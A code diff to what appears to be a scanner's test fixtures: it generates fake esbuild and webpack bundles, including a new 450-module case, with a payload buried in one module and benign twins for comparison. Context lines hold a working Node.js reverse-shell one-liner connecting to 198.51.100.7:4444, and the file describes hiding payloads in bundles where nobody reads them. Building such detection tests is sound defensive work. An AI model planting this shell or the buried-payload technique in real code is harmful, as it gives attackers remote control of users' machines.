@@ -46,10 +46,12 @@ interface Bundle {
   readonly inside?: string;
   readonly first?: string;
   readonly last?: string;
+  /** Default 40. */
+  readonly modules?: number;
 }
 
-function bundle({ tool, inside, first = '', last = '' }: Bundle): string {
-  const modules = Array.from({ length: 40 }, (_, i) => {
+function bundle({ tool, inside, first = '', last = '', modules: length = 40 }: Bundle): string {
+  const modules = Array.from({ length }, (_, i) => {
     const code = i === 17 && inside !== undefined ? inside : LIBRARIES[i % LIBRARIES.length];
     return `${code}\n${filler(`f${i}_`)}`;
   });
@@ -70,8 +72,16 @@ const SHELL =
   'const s = require("net").connect(4444, "198.51.100.7"); const p = require("child_process").spawn("/bin/sh", []); s.pipe(p.stdin); p.stdout.pipe(s);';
 const TOOLS = ['esbuild', 'webpack'] as const;
 
+/** More than two megabytes. */
+const LARGE = 450;
+
 /** Put into a bundle, where nobody reads it. */
 export const BUNDLES: readonly ImageCase[] = TOOLS.flatMap((tool) => [
+  started(
+    `${tool}, one module of a large one fetches and runs`,
+    bundle({ tool, inside: FETCHES, modules: LARGE }),
+    'start/download-and-run',
+  ),
   started(
     `${tool}, one module fetches and runs`,
     bundle({ tool, inside: FETCHES }),
@@ -96,6 +106,7 @@ export const BUNDLES: readonly ImageCase[] = TOOLS.flatMap((tool) => [
 ]);
 
 /** The same libraries, nothing put in. */
-export const BUNDLE_TWINS: readonly ImageCase[] = TOOLS.map((tool) =>
+export const BUNDLE_TWINS: readonly ImageCase[] = TOOLS.flatMap((tool) => [
   started(`${tool}, libraries that fetch, decode and run, each for itself`, bundle({ tool })),
-);
+  started(`${tool}, four hundred and fifty of them`, bundle({ tool, modules: LARGE })),
+]);
